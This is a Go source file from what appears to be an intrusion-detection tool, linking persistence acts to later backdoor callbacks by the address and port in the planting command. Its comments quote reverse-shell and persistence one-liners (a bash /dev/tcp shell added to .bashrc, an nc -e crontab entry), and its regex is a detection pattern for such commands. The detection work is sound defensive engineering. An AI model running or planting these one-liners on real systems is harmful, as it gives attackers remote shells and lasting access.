package detect

import (
	"net/netip"
	"regexp"
	"strconv"
	"strings"

	"github.com/auditchain/auditchain/parser"
)

// A planted backdoor calls back. A persistence act whose command names an
// address and port — `echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >>
// ~/.bashrc`, a crontab line with `nc 203.0.113.9 4444 -e sh`, a profile
// edited with sed to fetch http://203.0.113.9:8000/b — tells where the
// backdoor will connect. A later connection to exactly that address and
// port by a process that is not the planting command itself (a login
// shell reading the profile, cron running the job) is the callback: a
// command-and-control act tied to the plant by the address in its own
// command line (observed), whatever process makes it. PlantedPeer gives
// the rules that tie; backdoor-callback is the rule.

// plantedPeers bounds the addresses remembered from persistence acts.
const plantedPeers = 256

// plantKey is an address and port a persistence act named.
type plantKey struct {
	host, ip string
	port     int
}

// plant is the persistence act that named it.
type plant struct {
	ev      *parser.Event   // the act (kept by its finding)
	planter *parser.Process // the process that made it, and its descendants, are not the callback
}

// plants remembers the named peers, oldest dropped first.
type plants struct {
	by    map[plantKey]plant
	order []plantKey
}

// peerInCommand finds an IPv4 address with a port in a command: bash's
// /dev/tcp/ADDR/PORT, ADDR:PORT (socat, URLs), "ADDR PORT" (nc), and a
// URL without a port (its scheme's).
var peerInCommand = regexp.MustCompile(`/dev/(?:tcp|udp)/(\d{1,3}(?:\.\d{1,3}){3})/(\d{1,5})|(https?)://(\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?|(\d{1,3}(?:\.\d{1,3}){3})(?::|\s+)(\d{1,5})\b`)

// namedPeers returns the address/port pairs a command names.
func namedPeers(cmd string) []plantKey {
	var out []plantKey
	for _, m := range peerInCommand.FindAllStringSubmatch(cmd, 8) {
		ip, port := m[1], m[2]
		switch {
		case m[4] != "":
			ip, port = m[4], m[5]
			if port == "" {
				port = "80"
				if m[3] == "https" {
					port = "443"
				}
			}
		case m[6] != "":
			ip, port = m[6], m[7]
		}
		a, err := netip.ParseAddr(ip)
		n, perr := strconv.Atoi(port)
		if err != nil || perr != nil || n <= 0 || n > 65535 || a.IsUnspecified() {
			continue
		}
		out = append(out, plantKey{ip: a.String(), port: n})
	}
	return out
}

// notePlant remembers the peers a persistence finding's command names.
func (s *state) notePlant(f *Finding) {
	if f.Stage != StagePersistence || f.Event == nil || f.Process == nil {
		return
	}
	args := f.Event.Args
	if len(args) == 0 {
		args = f.Process.Args
	}
	for _, k := range namedPeers(strings.Join(args, " ")) {
		k.host = f.Host
		if s.plants.by == nil {
			s.plants.by = map[plantKey]plant{}
		}
		if _, ok := s.plants.by[k]; ok {
			continue // the first plant names it
		}
		if len(s.plants.order) >= plantedPeers {
			delete(s.plants.by, s.plants.order[0])
			s.plants.order = s.plants.order[1:]
		}
		s.plants.by[k] = plant{ev: f.Event, planter: f.Process}
		s.plants.order = append(s.plants.order, k)
	}
}

// plantedFor returns the persistence act that named ev's peer, when ev is
// a connect by a process other than the planter and its descendants.
func (s *state) plantedFor(ev *parser.Event) *plant {
	if ev.Kind != parser.KindConnect || len(s.plants.by) == 0 || ev.Peer.IP == "" {
		return nil
	}
	a, err := netip.ParseAddr(ev.Peer.IP)
	if err != nil {
		return nil
	}
	pl, ok := s.plants.by[plantKey{ev.Host, a.Unmap().String(), ev.Peer.Port}]
	if !ok {
		return nil
	}
	for p, n := ev.Proc, 0; p != nil && n < 32; p, n = p.Parent, n+1 {
		if pl.planter != nil && p.Key == pl.planter.Key {
			return nil // the planting command itself
		}
	}
	return &pl
}

// text says what the plant was, short: the command, or the file written
// and the command that wrote it.
func (pl *plant) text() string {
	cmd := strings.Join(pl.ev.Args, " ")
	if cmd == "" && pl.planter != nil {
		cmd = strings.Join(pl.planter.Args, " ")
	}
	if r := []rune(cmd); len(r) > 100 {
		cmd = string(r[:100]) + "…"
	}
	if pl.ev.Kind != parser.KindExec && pl.ev.Path != "" {
		return "write of " + pl.ev.Path + " by `" + cmd + "`"
	}
	return "`" + cmd + "`"
}
